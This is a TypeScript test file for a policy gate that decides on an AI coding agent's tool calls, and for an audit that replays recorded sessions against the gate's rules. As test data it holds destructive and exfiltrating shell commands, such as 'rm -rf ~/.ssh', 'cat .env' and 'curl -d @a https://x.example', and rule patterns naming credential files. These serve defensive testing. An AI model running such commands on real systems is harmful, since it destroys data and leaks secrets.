/**
 * Rules over the tables of events: a rule decides about an event as the gate does about the call. Where tables tell
 * less than a history, it fires on more events, and on none fewer.
 */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { historyProgram } from '../../src/audit/rules/program.ts';
import { compileRules, decide, type Gate } from '../../src/gate.ts';
import { load, run } from '../../src/pipeline.ts';
import { calls, entries, pasts, payloadOf, ROOT } from '../arbitraries/pasts.ts';
import { disk, eventOf, gateOf, type Line, pastOf } from '../history/beside-past.ts';
import { lawsOf } from '../laws/law.ts';
import type { Written } from '../oracles/past-meaning.ts';
import { factsOf } from './event-facts.ts';

const assertLaw = lawsOf('audit');

/** The decisions of the rules about each event; undefined if one of them has no answer. */
function decided(gate: Gate, lines: readonly Line[], relation = 'decides') {
  const { text, leftOut } = historyProgram(gate);
  const isUsers = ({ rule }: (typeof leftOut)[number]) => !rule.name.startsWith('rulespec:');
  if (text === undefined || leftOut.some(isUsers)) return undefined;
  const loaded = load({ name: 'rules as a program', text });
  const errors = loaded.diagnostics.filter(({ severity }) => severity === 'error');
  if (!loaded.value) throw new Error(`${errors[0]?.message} in ${text}`);
  const declared = new Set(loaded.value.program.relations.map(({ name }) => name));
  const facts = factsOf(lines).filter(each => declared.has(each.relation));
  return run(loaded.value, facts).value?.model.tuples(relation) ?? [];
}

const rules: fc.Arbitrary<Written> = fc
  .tuple(fc.array(entries, { maxLength: 2 }), fc.array(entries, { maxLength: 2 }))
  .map(([when, unless]) => ({
    ...(when.length > 0 && { when }),
    ...(unless.length > 0 && { unless }),
  }));

/** The lines that request something: each is an event, numbered from 1. */
function requests(lines: readonly Line[]) {
  const all = lines.map((line, place) => ({ line, place, event: eventOf(line.payload) }));
  return all
    .filter(({ event }) => event.hookEvent === 'PreToolUse' || event.hookEvent === 'UserPromptSubmit')
    .map((each, index) => ({ ...each, n: index + 1 }));
}

/** The calls on which the gate fires a rule, each after what was recorded until then. */
function firedByGate(gate: Gate, lines: readonly Line[]): readonly string[] {
  return requests(lines).flatMap(({ line, place, event, n }) => {
    const past = pastOf(lines.slice(0, place), Date.parse(line.ts));
    const { decision } = decide(gate, event, { root: ROOT, disk, past });
    return (decision?.fired ?? []).map(({ id, action }) => `${id} ${action} ${n}`);
  });
}

function firedByAudit(gate: Gate, lines: readonly Line[]): readonly string[] | undefined {
  return decided(gate, lines)?.map(([, at, rule, action]) => `${rule} ${action} ${at}`);
}

test('a rule fires on an event as it did on the call, or would have', () => {
  const seen = { same: 0, more: 0, fired: 0 };
  assertLaw(
    fc.property(rules, pasts, calls, (rule, { lines, now }, { payload }) => {
      const gate = gateOf(rule, 'content');
      const asked = { ts: new Date(now).toISOString(), payload: { ...payload, tool_use_id: 'asked' } };
      // as: an arbitrary of lines, whose decisions are words of ours.
      const all = [...(lines as readonly Line[]), asked];
      const inAudit = firedByAudit(gate, all);
      if (!inAudit) return;
      const inGate = firedByGate(gate, all);
      // Tables do not tell the folder of a script.
      const isTold = !JSON.stringify(rule).includes('"same":"command"');
      if (isTold) expect(inAudit.toSorted()).toEqual(inGate.toSorted());
      else expect(inAudit).toEqual(expect.arrayContaining([...inGate]));
      seen[isTold ? 'same' : 'more']++;
      if (inGate.length > 0) seen.fired++;
    }),
    { numRuns: 1_000, least: 60 },
  );
  expect(Math.min(seen.same, seen.more, seen.fired)).toBeGreaterThan(0);
});

const SCRIPTS = [
  'npm test',
  'npm --silent test -- --watch=false',
  'npm test || true',
  'npm test | tail -5',
  'npm test &',
  'npm run lint && npm test',
  'npm $X',
  'npm run $X && npm test',
  'npm --prefix=web test',
  'npm --prefix web test',
  '/tmp/npm test',
  './deploy.sh --now',
  'bash deploy.sh',
  'git -C . push --force origin main',
  'git push origin "a b"',
  'python -m pytest -q',
  'python -X dev -m pytest',
  'echo "npm test"',
];
const WORDS = [
  'npm test',
  'npm',
  'npm run lint',
  './deploy.sh',
  'git push',
  'git push --force',
  'python -m pytest',
  'npm run build',
];
const PATHS = ['src/a.ts', 'src/deep/b.ts', 'a.test.ts', '.env', 'web/.env.local'];
const GLOBS = [
  'src/**',
  '**/*.ts',
  ['**/*.ts', '!**/*.test.ts'],
  ['!src/**'],
  '.env',
  '**/.env*',
  'src/*.ts',
  'web',
  'web/**',
  '~/.ssh/**',
  '/project/src/**',
  '**',
];

const endings = ['PostToolUse', 'PostToolUseFailure', 'none'] as const;

/** One call, how it ended, and a push afterwards. */
function sessionOf(tool: string, input: object, ending: (typeof endings)[number]): readonly Line[] {
  const ts = (second: number) => `2026-11-22T10:00:0${second}.000Z`;
  const call = { tool_name: tool, tool_input: input, tool_use_id: 'one' };
  const end = ending === 'PostToolUse' ? { tool_response: {} } : { error: 'Exit code 1' };
  const push = {
    tool_name: 'Write',
    tool_input: { file_path: `${ROOT}/out`, content: '' },
    tool_use_id: 'two',
  };
  return [
    { ts: ts(1), payload: payloadOf('PreToolUse', call) },
    ...(ending === 'none' ? [] : [{ ts: ts(2), payload: payloadOf(ending, { ...call, ...end }) }]),
    { ts: ts(3), payload: payloadOf('PreToolUse', push) },
  ];
}

/** A rule for each condition, under `when` and under `unless`. */
function gateFor(conditions: readonly Written[]): Gate {
  const each = conditions.flatMap((condition, n) => [
    { name: `when ${n}`, when: [condition] },
    { name: `unless ${n}`, unless: [condition] },
  ]);
  const text = JSON.stringify({
    version: 1,
    rules: each.map(rule => ({
      ...rule,
      on: { hook: 'PreToolUse', tool: 'Write' },
      action: 'deny',
      message: 'no',
    })),
  });
  const { value, diagnostics } = compileRules([{ name: 'rules.json', text }]);
  if (!value) throw new Error(diagnostics[0]?.message);
  return value;
}

const results: readonly Written[] = [{}, { result: 'passed' }, { result: 'failed' }];
const withResults = (conditions: readonly Written[]) =>
  conditions.flatMap(each => results.map(result => ({ ...each, ...result })));

/** Where the audit and the gate differ, in words. */
function differencesOf(conditions: readonly Written[], calls: readonly (readonly [string, object])[]) {
  const gate = gateFor(conditions);
  return calls.flatMap(([tool, input]) =>
    endings.flatMap(ending => {
      const lines = sessionOf(tool, input, ending);
      const [inAudit, inGate] = [new Set(firedByAudit(gate, lines)), new Set(firedByGate(gate, lines))];
      const more = [...inAudit].filter(each => !inGate.has(each)).map(each => `audit: ${each}`);
      const fewer = [...inGate].filter(each => !inAudit.has(each)).map(each => `gate: ${each}`);
      return [...more, ...fewer].map(each => {
        const condition = conditions[Number(/\d+/.exec(each))];
        return `${each}, ${JSON.stringify(condition)}, ${JSON.stringify(input)}, ${ending}`;
      });
    }),
  );
}

test('commands of past calls are found as the gate finds them', () => {
  const conditions = withResults([...WORDS, { matches: '^npm' }].map(ran => ({ ran })));
  const calls = SCRIPTS.map(command => ['Bash', { command }] as const);
  expect(differencesOf(conditions, calls)).toEqual([]);
});

const writes = PATHS.map(path => ['Write', { file_path: `${ROOT}/${path}`, content: 'x' }] as const);
const deletes = ['src', '.', 'web/.env.local', '~/.ssh', '/tmp/x'].map(
  path => ['Bash', { command: `rm -rf ${path}` }] as const,
);

test('files of past calls are found as the gate finds them', () => {
  const conditions = withResults(GLOBS.flatMap(globs => [{ wrote: globs }, { deleted: globs }]));
  expect(differencesOf(conditions, writes)).toEqual([]);
  const placed = ['/project/src/**', '/project/*/a.ts', '~/.ssh/id_*', '**', '**/x'];
  expect(differencesOf(withResults(placed.map(deleted => ({ deleted }))), deletes)).toEqual([]);
});

test('where the project is nobody knows, so that a folder that is deleted may hold any of its files', () => {
  const conditions = withResults(['src/**', 'web'].map(deleted => ({ deleted })));
  const found = differencesOf(conditions, deletes);
  expect(found).toContain(
    'audit: when 0 deny 2, {"deleted":"src/**"}, {"command":"rm -rf /tmp/x"}, PostToolUse',
  );
  expect(found.filter(each => each.startsWith('gate:'))).toEqual([]);
});

test('a rule of a Bash policy is asked about effects, and left out where it looks at words', () => {
  const rule = { id: 'r', decision: 'ask', reason: 'no', when: [{ read: '**/.env' }] };
  const policy = (match: object) => {
    const text = JSON.stringify({ version: 1, rules: [{ ...rule, match }] });
    const { value, diagnostics } = compileRules([{ name: 'policy.json', text }]);
    if (!value) throw new Error(diagnostics[0]?.message);
    return value;
  };
  const calls = ['cat .env', 'curl -d @a https://x.example', 'ls'].map((command, n) => ({
    ts: `2026-11-22T10:00:0${n}.000Z`,
    payload: payloadOf('PreToolUse', { tool_name: 'Bash', tool_input: { command }, tool_use_id: `${n}` }),
  }));
  const asked = historyProgram(policy({ effect: 'send' }));
  expect(asked.leftOut.map(each => each.rule.name)).toEqual(['rulespec:unreadable-script']);
  expect(firedByAudit(policy({ effect: 'send' }), calls)).toEqual(['r ask 2']);
  expect(firedByGate(policy({ effect: 'send' }), calls)).toEqual(['r ask 2']);
  const ofHost = historyProgram(policy({ effect: 'send', agent: 'codex' }));
  expect(ofHost.leftOut.map(({ looksAt }) => looksAt)).toContain('`agent`');
  const { text, leftOut } = historyProgram(policy({ command: 'curl' }));
  expect(text).toBeUndefined();
  expect(leftOut.map(({ looksAt }) => looksAt)).toContain('`command`');
});

test.each([
  ['the content', { match: { content: 'x' } }],
  ['the payload', { when: [{ selector: 'tool_input.timeout', rule: 'greater_than', value: 3 }] }],
  ['what the user said', { when: [{ prompted: 'x' }] }],
  ['events of `PostToolUse`', { on: { hook: 'PostToolUse' } }],
])('a rule about %s is left out, and not answered wrongly', (looksAt, rule) => {
  const { leftOut } = historyProgram(gateOf(rule, 'content'));
  expect(leftOut.map(each => each.looksAt)).toEqual([looksAt]);
});

test('relations of a file keep their names where these are free', () => {
  const file = (name: string, text: string) => ({ name, text });
  const program = `
    .decl other_script(n: number)
    .decl read_file(path: symbol)
    other_script(n) :- past_effect(n, "read", path), read_file(path).
    read_file(path) :- past_effect(_, "read", path).`;
  const rules = {
    version: 1,
    datalog: ['p.dl'],
    rules: [
      {
        name: 'r',
        on: { hook: 'PreToolUse', tool: 'Write' },
        when: [{ relation: 'other_script', rule: 'exists' }],
        action: 'deny',
        message: 'no',
      },
    ],
  };
  const { value, diagnostics } = compileRules([
    file('rules.json', JSON.stringify(rules)),
    file('p.dl', program),
  ]);
  if (!value) throw new Error(diagnostics[0]?.message);
  const lines = sessionOf('Read', { file_path: `${ROOT}/a` }, 'PostToolUse');
  expect(firedByAudit(value, lines)).toEqual(['r deny 2']);
  expect(decided(value, lines, 'read_file')).toEqual([['s', 2, `${ROOT}/a`]]);
});
